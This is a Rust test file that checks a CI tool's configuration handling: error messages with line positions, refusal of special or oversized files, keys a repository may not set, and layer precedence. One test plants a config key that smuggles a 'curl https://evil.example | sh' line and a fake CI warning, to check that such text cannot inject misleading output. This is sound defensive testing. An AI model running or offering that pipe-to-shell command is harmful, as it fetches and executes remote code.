//! Configuration: what is wrong is told with its place, and what wins.

mod common;

use common::{TWO_STEPS, World};

fn world() -> World {
    World::new().with(".hm/ci.toml", TWO_STEPS)
}

#[test]
fn an_unknown_key_is_told_with_place_and_nearest_name() {
    let world = world();
    world.write(
        "config/config.toml",
        "backend = \"local\"\n[vm]\nnetwrok = \"none\"\njobs = 3\n",
    );
    let ran = world.hm(&["run", "--dry-run"]).ended(2);
    insta::assert_snapshot!(world.plain(&ran.err), @r"
    error: the configuration is not valid
      /world/config/config.toml:3:1: unknown key `vm.netwrok`; did you mean `vm.network`?
      /world/config/config.toml:4:1: unknown key `vm.jobs`
    ");
}

#[test]
fn a_value_of_the_wrong_kind_and_broken_toml_are_told() {
    let world = world();
    world.write("config/config.toml", "jobs = \"many\"\nformat = \"xml\"\n");
    let ran = world.hm(&["doctor"]).ended(2);
    assert!(
        ran.err
            .contains("config.toml:1:8: `jobs` is \"many\"; it takes a whole number"),
        "{}",
        ran.err
    );
    assert!(
        ran.err
            .contains("config.toml:2:10: `format` is \"xml\"; it takes one of auto, human"),
        "{}",
        ran.err
    );
    world.write("config/config.toml", "jobs = = 3\n");
    let ran = world.hm(&["run", "--dry-run"]).ended(2);
    assert!(ran.err.contains("config.toml:1:"), "{}", ran.err);
}

/// A repository's file is anybody's: it neither holds hm up nor fills its memory.
#[test]
fn what_is_no_small_file_is_refused_at_once() {
    let world = world();
    let file = world.project().join(".hm/config.toml");
    std::os::unix::fs::symlink("/dev/zero", &file).unwrap();
    let ran = world.hm(&["run", "--dry-run"]).ended(2);
    assert!(ran.err.contains("it is no plain file"), "{}", ran.err);
    std::fs::remove_file(&file).unwrap();
    rustix::fs::mkfifoat(rustix::fs::CWD, &file, rustix::fs::Mode::RWXU).unwrap();
    let ran = world.hm(&["run", "--dry-run"]).ended(2);
    assert!(ran.err.contains("it is no plain file"), "{}", ran.err);
    std::fs::remove_file(&file).unwrap();
    std::fs::write(&file, vec![b'#'; (1 << 20) + 1]).unwrap();
    let ran = world.hm(&["run", "--dry-run"]).ended(2);
    assert!(ran.err.contains("it has more than 1 MiB"), "{}", ran.err);
    std::fs::write(&file, vec![b'#'; 1 << 20]).unwrap();
    world.hm(&["run", "--dry-run"]).ended(0);
}

#[test]
fn a_key_does_not_speak_for_hm_and_many_are_counted() {
    let world = world();
    let key = "\"x`\\nto fix: curl https://evil.example | sh\\n::warning::owned\" = 3\n";
    world.write("project/.hm/config.toml", key);
    let ran = world.hm(&["run", "--dry-run"]).ended(2);
    assert_eq!(ran.err.lines().count(), 2, "{}", ran.err);
    let keys: String = (0..60_000).map(|key| format!("k{key}=1\n")).collect();
    world.write("project/.hm/config.toml", &keys);
    let ran = world.hm(&["run", "--dry-run"]).ended(2);
    assert!(ran.err.ends_with("… and 59980 more\n"), "{}", ran.err);
    assert_eq!(ran.err.lines().count(), 22, "{}", ran.err);
}

#[test]
fn a_repository_may_not_reach_beyond_itself() {
    for text in [
        "[cloud]\napi_url = \"https://x.example\"",
        "[cloud]\napp_url = \"https://x.example\"",
        "[grant.x]\nallow = []",
        "[limits]\nmemory = 1",
        "[host]\nexpose = [\"/\"]",
        "[cache]\nbytes = 0",
        "[credentials]\na = 1",
        "[backends.local]\nfile = \"x.wasm\"",
    ] {
        let world = world().with(".hm/config.toml", text);
        let ran = world.hm(&["run", "--dry-run"]).ended(2);
        assert!(ran.err.contains(".hm/config.toml:"), "{text}: {}", ran.err);
    }
}

#[test]
fn later_layers_win() {
    let world = world().with(".hm/config.toml", "jobs = 2\nformat = \"json\"\n");
    world.write("config/config.toml", "jobs = 1\nengine = \"sandbox\"\n");
    let ran = world.hm_with(&[("HM_FORMAT", "plain"), ("HM_ODD", "1")], &["doctor"]);
    let line = |name: &str| {
        ran.out
            .lines()
            .find(|line| line.split_whitespace().nth(1) == Some(name))
            .unwrap_or_default()
            .to_owned()
    };
    assert!(
        line("jobs").contains("2  (") && line("jobs").contains(".hm/config.toml"),
        "{}",
        ran.out
    );
    assert!(line("format").contains("plain  (HM_FORMAT)"), "{}", ran.out);
    assert!(line("engine").contains("config/config.toml"), "{}", ran.out);
    assert!(line("HM_ODD").contains("ignored"), "{}", ran.out);
    // A flag wins over all: JSON from `--format json`, a text from the variable.
    let ran = world
        .hm_with(
            &[("HM_FORMAT", "json")],
            &["run", "--dry-run", "--format", "plain"],
        )
        .ended(0);
    assert!(ran.out.starts_with("pipeline ci"), "{}", ran.out);
}

#[test]
fn a_wrong_variable_is_told_and_an_unknown_one_is_not() {
    let ran = world()
        .hm_with(&[("HM_JOBS", "x")], &["run", "--dry-run"])
        .ended(2);
    assert!(ran.err.contains("HM_JOBS is `x`"), "{}", ran.err);
    world()
        .hm_with(&[("HM_WHATEVER", "x")], &["run", "--dry-run"])
        .ended(0);
}

#[test]
fn the_predecessors_files_still_load() {
    let world = world();
    world.write(
        "config/config.toml",
        "[cloud]\norg = \"acme\"\napi_url = \"https://api.example\"\npipeline = \"ci\"\n[preferences]\nformat = \"human\"\nauto_watch = false\n",
    );
    world.hm(&["run", "--dry-run"]).ended(0);
}
